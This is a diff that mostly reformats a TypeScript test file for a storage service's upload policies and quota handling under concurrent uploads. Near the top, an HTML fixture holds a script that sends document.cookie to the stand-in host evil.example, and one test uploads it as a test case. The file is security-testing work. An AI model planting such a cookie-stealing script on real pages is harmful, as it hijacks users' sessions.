@@ -11,8 +11,13 @@ import { attackTable } from './attack-table.ts';
 
 const MIB = 1024 * 1024;
 // The first bytes of a real PNG (signature and IHDR chunk of a 1×1 image).
-const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201a1a5f2a60000000049454e44ae426082', 'hex');
-const HTML = Buffer.from('<!doctype html><html><body><script>fetch("https://evil.example/?c=" + document.cookie)</script></body></html>');
+const PNG = Buffer.from(
+  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201a1a5f2a60000000049454e44ae426082',
+  'hex',
+);
+const HTML = Buffer.from(
+  '<!doctype html><html><body><script>fetch("https://evil.example/?c=" + document.cookie)</script></body></html>',
+);
 
 let p: TestPlatform;
 let call: ReturnType<typeof client>;
@@ -21,10 +26,16 @@ let token: string;
 let other: Project;
 
 const file = (name: string, contentType: string, body: Buffer, folder = 'avatars'): Part[] => [
-  { name: 'folder', value: folder }, { name: 'confirm', value: 'true' }, { name: 'file', filename: name, contentType, body },
+  { name: 'folder', value: folder },
+  { name: 'confirm', value: 'true' },
+  { name: 'file', filename: name, contentType, body },
 ];
 
-const objectsIn = async (folder: string, p2: Project = project) => (await call('GET', `${STORAGE}/objects?folder=${folder}`, { apiKey: p2.apiKey })).body.objects as { name: string; content_type: string }[];
+const objectsIn = async (folder: string, p2: Project = project) =>
+  (await call('GET', `${STORAGE}/objects?folder=${folder}`, { apiKey: p2.apiKey })).body.objects as {
+    name: string;
+    content_type: string;
+  }[];
 
 beforeAll(async () => {
   p = await startOneProcess({ TESSERA_STORAGE_MAX_UPLOAD_BYTES: String(2 * MIB) });
@@ -36,9 +47,28 @@ beforeAll(async () => {
   call = client(p.url);
   project = await newProject(p.url);
   other = await newProject(p.url);
-  const policy = { name: 'own avatars', folder: 'avatars', operations: ['read', 'write', 'list'], principal: 'owner', content_types: ['image/*'] };
+  const policy = {
+    name: 'own avatars',
+    folder: 'avatars',
+    operations: ['read', 'write', 'list'],
+    principal: 'owner',
+    content_types: ['image/*'],
+  };
   expect((await call('POST', `${STORAGE}/policies`, { apiKey: project.apiKey, body: policy })).status).toBe(201);
-  expect((await call('POST', `${STORAGE}/policies`, { apiKey: project.apiKey, body: { name: 'notes', folder: 'notes', operations: ['write', 'list'], principal: 'authenticated', content_types: ['text/plain'] } })).status).toBe(201);
+  expect(
+    (
+      await call('POST', `${STORAGE}/policies`, {
+        apiKey: project.apiKey,
+        body: {
+          name: 'notes',
+          folder: 'notes',
+          operations: ['write', 'list'],
+          principal: 'authenticated',
+          content_types: ['text/plain'],
+        },
+      })
+    ).status,
+  ).toBe(201);
   const user = await registerUser(p.url, project);
   token = (await passwordGrant(p.url, project, user)).body.access_token;
 }, 60_000);
@@ -75,14 +105,22 @@ describe('content_types rules check the bytes', () => {
     expect(mislabelled.status).toBe(201);
     expect(mislabelled.body.object.content_type).toBe('image/png');
     // Text the bytes cannot tell keeps its declared type.
-    expect((await upload(p.url, file('n.txt', 'text/plain', Buffer.from('hello'), 'notes'), { token })).status).toBe(201);
+    expect((await upload(p.url, file('n.txt', 'text/plain', Buffer.from('hello'), 'notes'), { token })).status).toBe(
+      201,
+    );
     // The API key is not held to policies: what it declares is stored.
-    expect((await upload(p.url, file('raw.html', 'text/html', HTML, 'site'), { apiKey: project.apiKey })).status).toBe(201);
+    expect((await upload(p.url, file('raw.html', 'text/html', HTML, 'site'), { apiKey: project.apiKey })).status).toBe(
+      201,
+    );
   });
 });
 
 /** A body that streams `size` bytes slowly, until `release` is called. */
-function slowBody(size: number): { body: () => AsyncIterable<Uint8Array>; started: Promise<void>; release: () => void } {
+function slowBody(size: number): {
+  body: () => AsyncIterable<Uint8Array>;
+  started: Promise<void>;
+  release: () => void;
+} {
   let release!: () => void;
   let started!: () => void;
   const gate = new Promise<void>((r) => (release = r));
@@ -105,12 +143,26 @@ describe('the quota under concurrent uploads', () => {
       name: 'a second upload starts while a first, of unknown length, streams: it cannot also be handed the whole remainder',
       attack: async () => {
         const slow = slowBody(1.5 * MIB);
-        const first = upload(p.url, [{ name: 'folder', value: 'big' }, { name: 'file', filename: 'one.bin', body: slow.body }], { apiKey: project.apiKey });
+        const first = upload(
+          p.url,
+          [
+            { name: 'folder', value: 'big' },
+            { name: 'file', filename: 'one.bin', body: slow.body },
+          ],
+          { apiKey: project.apiKey },
+        );
         await slow.started;
         // The first (chunked: no length) reserved what it may carry: 2 MiB of the ~3 MiB left. Wait until its ticket exists.
         let second: Res | undefined;
         for (let i = 0; i < 50; i++) {
-          second = await upload(p.url, [{ name: 'folder', value: 'big' }, { name: 'file', filename: 'two.bin', body: Buffer.alloc(1.5 * MIB) }], { apiKey: project.apiKey });
+          second = await upload(
+            p.url,
+            [
+              { name: 'folder', value: 'big' },
+              { name: 'file', filename: 'two.bin', body: Buffer.alloc(1.5 * MIB) },
+            ],
+            { apiKey: project.apiKey },
+          );
           if (second.status !== 201) break;
           await call('DELETE', `${STORAGE}/objects/${second.body.object.id}`, { apiKey: project.apiKey });
         }
